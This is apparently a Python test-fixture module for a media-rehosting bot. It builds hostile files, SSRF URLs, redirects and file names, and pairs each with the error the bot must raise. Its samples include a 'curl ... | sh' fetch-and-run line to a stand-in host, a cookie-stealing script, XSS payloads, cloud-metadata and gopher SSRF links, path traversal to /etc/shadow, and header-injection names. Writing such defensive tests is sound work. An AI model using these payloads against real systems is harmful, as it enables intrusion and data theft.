"""A corpus of hostile input, made on the fly: files that lie, URLs that point inward, names
that try to escape.

Every entry says what it is, what it pretends to be and which error the bot must answer with.
The tests in ``tests/test_hostile_input.py`` run each entry through the real pipeline;
``docs/RELIABILITY.md`` counts them. Nothing here is binary on disk: the bytes are built by
the functions below from a few lines each, so the corpus is readable in review.
"""

from __future__ import annotations

import struct
import zipfile
from dataclasses import dataclass
from io import BytesIO

from bot.errors import RehostError
from bot.media import EmptyMedia, MediaTooLarge, TruncatedMedia, UnsupportedMedia
from bot.sources import BlockedAddress, SourceError
from tests import samples

MB = 1024 * 1024

# The limits the corpus is written against (the tests build the pipeline with them).
IMAGE_LIMIT = 2 * MB
VIDEO_LIMIT = 8 * MB


@dataclass(frozen=True)
class HostileFile:
    """Bytes that arrive under ``name``, perhaps with a size announced in advance."""

    id: str
    name: str
    data: bytes
    error: type[RehostError]
    why: str
    declared_size: int | None = None
    extra_chunks: int = 0  # chunks of filler sent after ``data`` (for streams that grow)

    @property
    def chunk_count(self) -> int:
        return 1 + self.extra_chunks


@dataclass(frozen=True)
class HostileUrl:
    """A link the bot is asked to fetch; ``error`` is what it must answer, before any socket."""

    id: str
    url: str
    error: type[RehostError]
    why: str


@dataclass(frozen=True)
class HostileRedirect:
    """A public-looking first hop that redirects to ``target``; only the first hop may be hit."""

    id: str
    target: str
    error: type[RehostError]
    why: str


@dataclass(frozen=True)
class HostileName:
    """A file name meant to break a path, a header, a terminal or a reader's eye."""

    id: str
    name: str
    why: str


# --- building blocks -----------------------------------------------------------------------


def zip_archive(*, comment: bytes = b"") -> bytes:
    """A real ZIP archive with one small entry (and an archive comment, if given)."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.txt", "the archive part of a polyglot\n")
        archive.comment = comment
    return buffer.getvalue()


def elf() -> bytes:
    """The start of a 64-bit Linux executable."""
    header = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
    return header + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)


def windows_exe() -> bytes:
    return b"MZ\x90\x00\x03" + bytes(59) + b"PE\x00\x00" + bytes(200)


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>cat</title></head>"
        b"<body><script>fetch('/steal?c='+document.cookie)</script></body></html>"
    )


def svg_with_script(*, prolog: bool = False) -> bytes:
    body = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
        b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
    )
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n' + body) if prolog else body


def pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript >> >>\n" + bytes(64)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n" + b"#" * 64


def iso_media(brand: bytes) -> bytes:
    """An ISO base media file with the given major brand (HEIC, M4A, ...)."""
    ftyp = struct.pack(">I", 24) + b"ftyp" + brand + b"\x00\x00\x00\x00" + brand + b"mif1"
    return ftyp + struct.pack(">I", 64) + b"mdat" + bytes(56)


def matroska() -> bytes:
    return b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x88matroska" + bytes(64)


def webp() -> bytes:
    payload = b"VP8 " + struct.pack("<I", 10) + bytes(10)
    return b"RIFF" + struct.pack("<I", 4 + len(payload)) + b"WEBP" + payload


def files() -> list[HostileFile]:
    """Every hostile file, with the error it must get."""
    png, gif, jpeg, mp4 = samples.png(), samples.gif(), samples.jpeg(), samples.mp4(4096)
    return [
        # Files whose name lies about what they are.
        HostileFile("zip-named-png", "holiday.png", zip_archive(), UnsupportedMedia,
                    "a ZIP archive named .png"),
        HostileFile("elf-named-png", "cat.png", elf(), UnsupportedMedia,
                    "a Linux executable named .png"),
        HostileFile("exe-named-jpg", "cat.jpg", windows_exe(), UnsupportedMedia,
                    "a Windows executable named .jpg"),
        HostileFile("html-named-png", "cat.png", html_page(), UnsupportedMedia,
                    "an HTML page with a script, named .png"),
        HostileFile("svg-script-named-png", "logo.png", svg_with_script(), UnsupportedMedia,
                    "an SVG with a script, named .png"),
        HostileFile("svg-prolog-named-png", "logo.png", svg_with_script(prolog=True),
                    UnsupportedMedia, "an SVG with an XML prolog and onload, named .png"),
        HostileFile("pdf-named-jpg", "scan.jpg", pdf(), UnsupportedMedia,
                    "a PDF with an OpenAction script, named .jpg"),
        HostileFile("script-named-gif", "funny.gif", shell_script(), UnsupportedMedia,
                    "a shell script named .gif"),
        HostileFile("bom-html-named-png", "cat.png", b"\xef\xbb\xbf" + html_page(),
                    UnsupportedMedia, "HTML behind a UTF-8 byte order mark"),
        HostileFile("heic-named-jpg", "photo.jpg", iso_media(b"heic"), UnsupportedMedia,
                    "a HEIC still (Imgur refuses it), named .jpg"),
        HostileFile("m4a-named-mp4", "clip.mp4", iso_media(b"M4A "), UnsupportedMedia,
                    "audio-only M4A named .mp4"),
        HostileFile("mkv-named-webm", "clip.webm", matroska(), UnsupportedMedia,
                    "Matroska (not WebM) named .webm"),
        HostileFile("bm-prefix-text", "notes.bmp", b"BMW owners club newsletter " * 4,
                    UnsupportedMedia, "text that happens to start with BM"),
        # Polyglots: a real image with something else after its end.
        HostileFile("png+zip", "image.png", png + zip_archive(), UnsupportedMedia,
                    "a PNG with a ZIP archive after IEND"),
        HostileFile("png+html", "image.png", png + html_page(), TruncatedMedia,
                    "a PNG with an HTML page after IEND"),
        HostileFile("gif+zip", "image.gif", gif + zip_archive(), UnsupportedMedia,
                    "a GIF with a ZIP archive after its trailer (a GIFAR)"),
        HostileFile("jpeg+zip", "image.jpg", jpeg + zip_archive(), UnsupportedMedia,
                    "a JPEG with a ZIP archive after EOI"),
        HostileFile("jpeg+zip-comment", "image.jpg", jpeg + zip_archive(comment=b"x" * 4000),
                    UnsupportedMedia, "a JPEG with a ZIP whose comment hides its end record"),
        HostileFile("mp4+zip", "clip.mp4", mp4 + zip_archive(), UnsupportedMedia,
                    "an MP4 with a ZIP archive appended"),
        HostileFile("webp+zip", "image.webp", webp() + zip_archive(), UnsupportedMedia,
                    "a WebP with a ZIP archive appended"),
        # Empty and truncated.
        HostileFile("empty", "empty.png", b"", EmptyMedia, "no bytes at all"),
        HostileFile("tiny", "tiny.png", png[:5], TruncatedMedia, "five bytes of a PNG"),
        HostileFile("png-header-only", "cut.png", png[:33], TruncatedMedia,
                    "a PNG signature and header, nothing more"),
        HostileFile("png-cut-mid-data", "cut.png", png[:-14], TruncatedMedia,
                    "a PNG cut inside its image data"),
        HostileFile("gif-without-trailer", "cut.gif", gif[:-1], TruncatedMedia,
                    "a GIF without its trailer byte"),
        HostileFile("webp-cut", "cut.webp", webp()[:-4], TruncatedMedia,
                    "a WebP shorter than its RIFF header says"),
        # Sizes that lie or overflow.
        HostileFile("declared-over-image-limit", "huge.png", png, MediaTooLarge,
                    "a PNG announced as larger than the image limit",
                    declared_size=IMAGE_LIMIT + 1),
        HostileFile("declared-over-every-limit", "huge.bin", png, MediaTooLarge,
                    "a size over the video limit, refused before the first byte",
                    declared_size=VIDEO_LIMIT + 1),
        HostileFile("longer-than-declared", "grow.png", png, SourceError,
                    "a stream that keeps going after the size it announced",
                    declared_size=len(png), extra_chunks=64),
        HostileFile("shorter-than-declared", "short.png", png, TruncatedMedia,
                    "a stream that ends before the size it announced",
                    declared_size=len(png) + 1000),
        HostileFile("image-over-limit", "big.png", samples.big_png(IMAGE_LIMIT + 4096),
                    MediaTooLarge, "a real PNG over the image limit"),
        HostileFile("endless-image", "endless.png", png[:33], MediaTooLarge,
                    "a PNG header followed by filler without end", extra_chunks=10_000),
    ]  # fmt: skip


def urls() -> list[HostileUrl]:
    """Every hostile link, with the error it must get without a connection being made."""
    blocked = BlockedAddress
    return [
        # Other schemes.
        HostileUrl("file", "file:///etc/passwd", SourceError, "a local file"),
        HostileUrl("ftp", "ftp://example.com/cat.png", SourceError, "FTP"),
        HostileUrl("gopher", "gopher://127.0.0.1:6379/_FLUSHALL", SourceError,
                   "gopher, the classic SSRF smuggler"),
        HostileUrl("data", "data:image/png;base64,iVBORw0KGgo=", SourceError, "a data: URL"),
        HostileUrl("javascript", "javascript:alert(1)", SourceError, "a script URL"),
        HostileUrl("dict", "dict://127.0.0.1:11211/stats", SourceError, "dict:"),
        HostileUrl("ws", "ws://example.com/socket", SourceError, "a websocket"),
        HostileUrl("relative", "/etc/passwd", SourceError, "no scheme or host at all"),
        HostileUrl("no-host", "http:///cat.png", SourceError, "a scheme without a host"),
        HostileUrl("bad-port", "http://example.com:99999/", SourceError, "a port out of range"),
        HostileUrl("backslash", "http://example.com\\@127.0.0.1/", SourceError,
                   "a backslash in the authority"),
        # User-info.
        HostileUrl("userinfo", "http://user:pass@example.com/cat.png", SourceError,
                   "a user name and password"),
        HostileUrl("user-only", "http://user@example.com/cat.png", SourceError,
                   "a user name alone"),
        HostileUrl("userinfo-disguise", "http://example.com@127.0.0.1/cat.png", SourceError,
                   "looks like example.com, goes to 127.0.0.1"),
        # IPv4 literals of non-public ranges.
        HostileUrl("loopback", "http://127.0.0.1/", blocked, "loopback"),
        HostileUrl("loopback-other", "http://127.45.6.7/", blocked, "loopback, not .1"),
        HostileUrl("rfc1918-10", "http://10.0.0.1/", blocked, "private 10/8"),
        HostileUrl("rfc1918-172", "http://172.31.255.254/", blocked, "private 172.16/12"),
        HostileUrl("rfc1918-192", "http://192.168.1.1/", blocked, "private 192.168/16"),
        HostileUrl("metadata", "http://169.254.169.254/latest/meta-data/", blocked,
                   "cloud metadata (link-local)"),
        HostileUrl("cgnat", "http://100.100.100.100/", blocked, "shared address space 100.64/10"),
        HostileUrl("this-host", "http://0.0.0.0:8080/", blocked, "0.0.0.0"),
        HostileUrl("benchmark", "http://198.18.0.1/", blocked, "benchmarking 198.18/15"),
        HostileUrl("reserved", "http://240.0.0.1/", blocked, "reserved 240/4"),
        HostileUrl("broadcast", "http://255.255.255.255/", blocked, "broadcast"),
        HostileUrl("multicast", "http://224.0.0.251/", blocked, "multicast"),
        HostileUrl("fragment-trick", "http://127.0.0.1#@example.com/", blocked,
                   "a fragment that makes it look like example.com"),
        HostileUrl("fullwidth-dots", "http://127\u30020\u30020\u30021/", blocked,
                   "ideographic full stops that IDNA turns into dots"),
        HostileUrl("trailing-dot", "http://127.0.0.1./", SourceError, "a trailing dot"),
        # Decimal, octal, hexadecimal and short forms. aiohttp refuses the non-canonical
        # decimal and octal ones as invalid links; the hexadecimal ones reach the resolver,
        # which reads them as the C library does, and the address guard refuses the result.
        HostileUrl("decimal", "http://2130706433/", SourceError, "127.0.0.1 as one decimal"),
        HostileUrl("hex", "http://0x7f000001/", blocked, "127.0.0.1 in hexadecimal"),
        HostileUrl("octal", "http://0177.0.0.1/", SourceError, "127.0.0.1 with an octal part"),
        HostileUrl("short", "http://127.1/", SourceError, "127.0.0.1 in short form"),
        HostileUrl("zero", "http://0/", SourceError, "0 meaning 0.0.0.0"),
        HostileUrl("decimal-private", "http://167772161/", SourceError, "10.0.0.1 as one decimal"),
        HostileUrl("hex-metadata", "http://0xa9fea9fe/", blocked, "169.254.169.254 in hex"),
        HostileUrl("octal-private", "http://012.0.0.1/", SourceError,
                   "10.0.0.1 with an octal part"),
        HostileUrl("short-private", "http://10.1/", SourceError, "10.0.0.1 in short form"),
        # IPv6 literals.
        HostileUrl("v6-loopback", "http://[::1]/", blocked, "IPv6 loopback"),
        HostileUrl("v6-unspecified", "http://[::]/", blocked, "IPv6 unspecified"),
        HostileUrl("v6-link-local", "http://[fe80::1%25eth0]/", blocked, "link-local with zone"),
        HostileUrl("v6-unique-local", "http://[fd12:3456::1]/", blocked, "unique local fc00::/7"),
        HostileUrl("v6-site-local", "http://[fec0::1]/", blocked, "deprecated site-local"),
        HostileUrl("v6-mapped", "http://[::ffff:127.0.0.1]/", blocked, "IPv4-mapped loopback"),
        HostileUrl("v6-mapped-hex", "http://[::ffff:a00:1]/", blocked, "IPv4-mapped 10.0.0.1"),
        HostileUrl("v6-compatible", "http://[::127.0.0.1]/", blocked, "IPv4-compatible"),
        HostileUrl("v6-nat64", "http://[64:ff9b::a9fe:a9fe]/", blocked, "NAT64 of metadata"),
        HostileUrl("v6-6to4", "http://[2002:a00:1::1]/", blocked, "6to4 of 10.0.0.1"),
        HostileUrl("v6-6to4-loopback", "http://[2002:7f00:1::]/", blocked, "6to4 of 127.0.0.1"),
        HostileUrl("v6-teredo", "http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/", blocked,
                   "Teredo"),
        HostileUrl("v6-documentation", "http://[2001:db8::1]/", blocked, "documentation range"),
        HostileUrl("v6-multicast", "http://[ff02::1]/", blocked, "IPv6 multicast"),
        # Names that resolve inward (answered by the tests' own resolver, never real DNS).
        HostileUrl("localhost", "http://localhost/", blocked, "localhost"),
        HostileUrl("localhost-dot", "http://localhost./", blocked, "localhost with a dot"),
        HostileUrl("name-private", "http://intranet.test/cat.png", blocked,
                   "a name that resolves to 10.0.0.8"),
        HostileUrl("name-metadata", "http://metadata.test/", blocked,
                   "a name that resolves to 169.254.169.254"),
        HostileUrl("name-v6-private", "http://v6only.test/", blocked,
                   "a name with only a unique-local IPv6 address"),
        HostileUrl("name-mixed", "http://rebind.test/", blocked,
                   "a name with one public and one private address (DNS rebinding)"),
        HostileUrl("name-mapped", "http://mapped.test/", blocked,
                   "a name resolving to IPv4-mapped 192.168.1.1"),
        HostileUrl("name-unknown", "http://no-such-host.test/", SourceError,
                   "a name that does not resolve"),
        # Forms a new user tried that nobody had written down.
        HostileUrl("fullwidth-digits", "http://\uff11\uff12\uff17.\uff10.\uff10.\uff11/",
                   blocked, "full-width digits that IDNA folds into 127.0.0.1"),
        HostileUrl("circled-digits", "http://\u2460\u2461\u2466.0.0.1/", blocked,
                   "circled digits that IDNA folds into 127.0.0.1"),
        HostileUrl("trailing-dot-private", "http://10.0.0.1./", SourceError,
                   "a private address with a trailing dot"),
        HostileUrl("trailing-dot-unspecified", "http://0.0.0.0./", SourceError,
                   "0.0.0.0 with a trailing dot"),
        HostileUrl("percent-host", "http://%31%30.0.0.1/", SourceError,
                   "a host written in percent escapes (10.0.0.1)"),
        HostileUrl("v6-mapped-zone", "http://[::ffff:127.0.0.1%25eth0]/", blocked,
                   "IPv4-mapped loopback with a zone"),
        HostileUrl("v6-mapped-unspecified", "http://[::ffff:0.0.0.0]/", blocked,
                   "IPv4-mapped 0.0.0.0"),
        HostileUrl("space-in-host", "http://127.0.0.1 /", SourceError, "a space after the host"),
        HostileUrl("idn-private", "http://b\u00fccher.test/", blocked,
                   "an internationalised name that resolves to 10.0.0.9"),
        HostileUrl("very-long", "http://intranet.test/" + "a" * 100_000, blocked,
                   "a 100,000-character link to a name resolving inward"),
    ]  # fmt: skip


# What the tests' resolver answers for the names above. The public address is only ever
# *resolved*, never connected to: the resolver guard refuses the whole answer first.
HOSTS: dict[str, list[str]] = {
    "localhost": ["127.0.0.1", "::1"],
    "intranet.test": ["10.0.0.8"],
    "metadata.test": ["169.254.169.254"],
    "v6only.test": ["fd00::5"],
    "rebind.test": ["93.184.216.34", "10.0.0.1"],
    "mapped.test": ["::ffff:192.168.1.1"],
    "xn--bcher-kva.test": ["10.0.0.9"],
}


def redirects() -> list[HostileRedirect]:
    """Where a hostile first hop redirects to; each must be refused before connecting."""
    return [
        HostileRedirect("to-metadata", "http://169.254.169.254/latest/meta-data/",
                        BlockedAddress, "a redirect to cloud metadata"),
        HostileRedirect("to-private-name", "http://intranet.test/admin", BlockedAddress,
                        "a redirect to a name resolving to 10.0.0.8"),
        HostileRedirect("to-v6-loopback", "http://[::1]:6379/", BlockedAddress,
                        "a redirect to IPv6 loopback"),
        HostileRedirect("to-hex-private", "http://0xa000001/", BlockedAddress,
                        "a redirect to 10.0.0.1 in hexadecimal"),
        HostileRedirect("to-file", "file:///etc/shadow", SourceError,
                        "a redirect to a local file"),
        HostileRedirect("to-gopher", "gopher://10.0.0.1:25/", SourceError,
                        "a redirect to gopher"),
        HostileRedirect("to-bad-port", "http://example.com:99999/", SourceError,
                        "a redirect to a port out of range"),
        HostileRedirect("to-backslash", "http://example.com\\@10.0.0.1/", SourceError,
                        "a redirect with a backslash in the authority"),
        HostileRedirect("to-decimal", "http://167772161/", SourceError,
                        "a redirect to 10.0.0.1 as one decimal"),
        HostileRedirect("to-userinfo", "http://admin:admin@intranet.test/", SourceError,
                        "a redirect with credentials"),
    ]  # fmt: skip


def names() -> list[HostileName]:
    """File names that must reach Imgur, the ledger and the screen defused."""
    return [
        HostileName("traversal", "../../../../etc/passwd.png", "path traversal"),
        HostileName("windows-traversal", "..\\..\\Windows\\win.ini.png", "backslash traversal"),
        HostileName("absolute", "/etc/shadow.png", "an absolute path"),
        HostileName("very-long", "a" * 5000 + ".png", "5000 characters"),
        HostileName("nul", "cat\x00.exe.png", "a NUL byte"),
        HostileName("newline", "cat\r\nX-Injected: 1\r\n.png", "CRLF, as in header injection"),
        HostileName("ansi", "\x1b[2J\x1b[31mred\x1b[0m.png", "terminal escape sequences"),
        HostileName("rtl-override", "photo\u202egnp.exe", "right-to-left override"),
        HostileName("rtl-mark", "\u200f\u200ecat\u2066.png", "bidi marks and isolates"),
        HostileName("quote", 'cat"; filename="evil.exe.png', "a quote that closes a header"),
        HostileName("zero-width", "c\u200ba\u200dt\ufeff.png", "zero-width characters"),
        HostileName("dots-only", "....png", "only dots"),
        HostileName("empty", "", "no name at all"),
        HostileName("spaces", "   ", "only spaces"),
        HostileName("device", "CON.png", "a Windows device name"),
        HostileName("percent", "%2e%2e%2fetc%2fpasswd.png", "percent-encoded traversal"),
        HostileName("emoji", "\U0001f4a5" * 300 + ".png", "300 emoji"),
    ]
